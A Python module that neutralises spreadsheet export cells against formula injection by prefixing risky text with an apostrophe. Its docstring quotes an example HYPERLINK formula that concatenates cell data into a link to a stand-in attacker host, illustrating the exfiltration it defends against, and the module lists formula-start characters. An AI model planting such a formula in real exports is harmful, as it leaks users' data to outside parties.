"""Cells of exported spreadsheets (XLSX, CSV), neutralised against formula injection.

A spreadsheet program runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
a tab or carriage return first, or the full-width forms) as a formula: a unit renamed to
``=HYPERLINK("https://evil.example/?"&A1, "Open")`` would become a live link that sends the
sheet's data away. Every text cell of every export goes through ``safe_cell``, whatever field it
comes from: such text is kept, but prefixed with an apostrophe, so it is shown as text and
never evaluated (OWASP's recommendation for CSV injection). Numbers, dates and empty cells are
left as they are.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def safe_cell(value: Any) -> Any:
    """Return ``value`` for an exported cell: text that a spreadsheet would run is quoted."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """Return a row of exported cells, each through ``safe_cell``."""
    return [safe_cell(value) for value in values]
